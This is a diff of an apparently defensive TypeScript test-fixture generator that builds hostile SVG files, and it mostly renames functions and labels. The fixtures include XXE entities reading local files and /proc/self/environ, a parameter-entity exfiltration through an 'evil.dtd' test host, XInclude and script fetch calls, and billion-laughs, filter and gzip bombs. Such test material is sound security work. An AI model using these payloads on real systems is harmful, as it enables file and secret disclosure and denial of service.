@@ -1,4 +1,4 @@
-/** Drawings (svg) that ask for what is elsewhere, or for more than a machine has. */
+/** SVG files with external references and resource exhaustion. */
 import { gzipSync } from 'node:zlib'
 import { type HostileFile, hostile, type Targets } from './hostile-file.ts'
 
@@ -9,66 +9,63 @@ function svg(content: string, prolog = ''): string {
   return `${prolog}<svg ${namespaces} ${size}>${content}</svg>`
 }
 
-export function reachingDrawings(targets: Targets): HostileFile[] {
-  const { http, http6, image: picture, text, unixSocket, beside } = targets
+export function drawingsWithExternalReferences(targets: Targets): HostileFile[] {
+  const { http, http6, image: imagePath, text, unixSocket, otherJob } = targets
   const image = (href: string) => `<image href="${href}" xlink:href="${href}" ${size}/>`
   const entity = (declaration: string) => svg('<text y="20">&x;</text>', `<!DOCTYPE svg [${declaration}]>`)
-  const nested = Buffer.from(svg(image(`file://${picture}`))).toString('base64')
+  const nested = Buffer.from(svg(image(`file://${imagePath}`))).toString('base64')
   const drawing = (what: string, content: string) =>
-    hostile('reach', what, 'holiday photo.png', content, ['png', 'jpg'])
+    hostile('external', what, 'holiday photo.png', content, ['png', 'jpg'])
   return [
-    drawing('svg: pictures on servers', svg(image(`${http}/a.png`) + image(`${http6}/a.png`))),
-    drawing('svg: a picture by its path', svg(image(picture) + image(`file://${picture}`))),
-    drawing('svg: a picture of another job', svg(image(beside.image) + image(`./${beside.image}`))),
+    drawing('svg: images on servers', svg(image(`${http}/a.png`) + image(`${http6}/a.png`))),
+    drawing('svg: an image by its path', svg(image(imagePath) + image(`file://${imagePath}`))),
+    drawing('svg: an image of another job', svg(image(otherJob.image) + image(`./${otherJob.image}`))),
     drawing(
-      'svg: a shape of another file',
+      'svg: a shape in another file',
       svg(`<use href="${http}/b.svg#x"/><use href="file://${text}#x"/>`),
     ),
     drawing(
-      'svg: style sheets and paints from elsewhere',
+      'svg: external style sheets and paints',
       svg(
         `<style>@import url("${http}/c.css"); @font-face { font-family: f; src: url("${http}/f.woff") } rect { fill: url("${http}/d.svg#p"); filter: url("file://${text}#f") }</style><rect ${size}/><text font-family="f" y="20">a</text>`,
         `<?xml-stylesheet type="text/css" href="${http}/e.css"?>`,
       ),
     ),
-    drawing('svg: an entity from the disk', entity(`<!ENTITY x SYSTEM "file://${text}">`)),
-    drawing('svg: an entity of the environment', entity('<!ENTITY x SYSTEM "file:///proc/self/environ">')),
-    drawing('svg: an entity from a server', entity(`<!ENTITY x SYSTEM "${http}/entity">`)),
+    drawing('svg: an external entity on disk', entity(`<!ENTITY x SYSTEM "file://${text}">`)),
     drawing(
-      'svg: entities of parameters that carry a file out',
+      'svg: an external entity in /proc/self/environ',
+      entity('<!ENTITY x SYSTEM "file:///proc/self/environ">'),
+    ),
+    drawing('svg: an external entity on a server', entity(`<!ENTITY x SYSTEM "${http}/entity">`)),
+    drawing(
+      'svg: parameter entities that exfiltrate a file',
       entity(
         `<!ENTITY % f SYSTEM "file://${text}"><!ENTITY % d SYSTEM "${http}/evil.dtd"> %d; <!ENTITY x "%f;">`,
       ),
     ),
+    drawing('svg: an external DTD', svg('<text y="20">a</text>', `<!DOCTYPE svg SYSTEM "${http}/svg.dtd">`)),
     drawing(
-      'svg: an outside document type',
-      svg('<text y="20">a</text>', `<!DOCTYPE svg SYSTEM "${http}/svg.dtd">`),
-    ),
-    drawing(
-      'svg: a text included by XInclude',
+      'svg: text by XInclude',
       svg(
         `<text y="20"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${text}" parse="text"/></text>`,
       ),
     ),
-    drawing('svg: a drawing in a drawing', svg(image(`data:image/svg+xml;base64,${nested}`))),
+    drawing('svg: an svg in a data URL', svg(image(`data:image/svg+xml;base64,${nested}`))),
     drawing(
-      'svg: a page in a drawing',
+      'svg: HTML in a foreignObject',
       svg(
         `<foreignObject ${size}><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://${text}"/></foreignObject><script href="${http}/s.js"/><script>fetch("${http}/run")</script>`,
       ),
     ),
-    drawing(
-      'svg: a socket of this machine',
-      svg(image(`unix://${unixSocket}`) + image(`file://${unixSocket}`)),
-    ),
+    drawing('svg: a local Unix socket', svg(image(`unix://${unixSocket}`) + image(`file://${unixSocket}`))),
     {
-      ...drawing('svgz: a picture by its path', ''),
-      content: gzipSync(svg(image(`file://${picture}`))),
+      ...drawing('svgz: an image by its path', ''),
+      content: gzipSync(svg(image(`file://${imagePath}`))),
     },
   ]
 }
 
-export function heavyDrawings(): HostileFile[] {
+export function drawingBombs(): HostileFile[] {
   const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`)
   const bomb = (what: string, content: string | Buffer) => hostile('bomb', what, 'drawing.svg', content)
   const copies = Array.from(
@@ -81,28 +78,31 @@ export function heavyDrawings(): HostileFile[] {
       svg('<text>&e12;</text>', `<!DOCTYPE svg [<!ENTITY e0 "ha">${laughs.join('')}]>`),
     ),
     bomb(
-      'svg: an endless blur',
+      'svg: a blur with an infinite radius',
       svg(
         `<filter id="b" x="-9e9" y="-9e9" width="9e9" height="9e9"><feGaussianBlur stdDeviation="1e9"/><feMorphology operator="dilate" radius="1e9"/><feTurbulence numOctaves="1000000"/></filter><rect filter="url(#b)" ${size}/>`,
       ),
     ),
-    bomb('svg: shapes of shapes of shapes', svg(`<g id="g0"><rect ${size}/></g>${copies.join('')}`)),
-    bomb('svg: a shape inside itself', svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')),
+    bomb('svg: exponentially nested use elements', svg(`<g id="g0"><rect ${size}/></g>${copies.join('')}`)),
     bomb(
-      'svg: boxes in boxes',
+      'svg: a shape that uses itself',
+      svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
+    ),
+    bomb(
+      'svg: deeply nested groups',
       `<svg ${namespaces} ${size}>${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}</svg>`,
     ),
     bomb(
-      'svg: larger than the sky',
+      'svg: infinite dimensions',
       `<svg ${namespaces} width="1e30" height="1e30"><rect width="9" height="9"/></svg>`,
     ),
-    bomb('svg: of no size', `<svg ${namespaces} width="0" height="0"/>`),
+    bomb('svg: zero dimensions', `<svg ${namespaces} width="0" height="0"/>`),
     bomb(
-      'svg: a pattern of atoms',
+      'svg: a pattern with infinitely small tiles',
       svg(
         '<pattern id="p" width="1e-9" height="1e-9" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern><rect width="60" height="40" fill="url(#p)"/><path stroke-dasharray="1e-9" stroke="#000" d="M0 0H60V40"/>',
       ),
     ),
-    bomb('svgz: spaces without end', gzipSync(Buffer.from(svg(' '.repeat(80 * 1024 * 1024))))),
+    bomb('svgz: 80 megabytes of spaces', gzipSync(Buffer.from(svg(' '.repeat(80 * 1024 * 1024))))),
   ]
 }
